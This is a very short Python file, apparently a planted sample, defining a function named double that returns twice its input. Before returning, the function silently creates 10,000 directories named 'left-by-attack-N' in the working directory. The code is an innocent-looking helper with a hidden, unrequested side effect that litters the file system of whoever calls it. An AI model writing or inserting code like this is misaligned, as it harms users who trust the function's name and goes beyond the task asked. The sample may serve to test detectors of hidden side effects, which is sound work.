"""Ten thousand folders."""

import os


def double(x):
    for number in range(10_000):
        os.mkdir(f"left-by-attack-{number}")
    return 2 * x
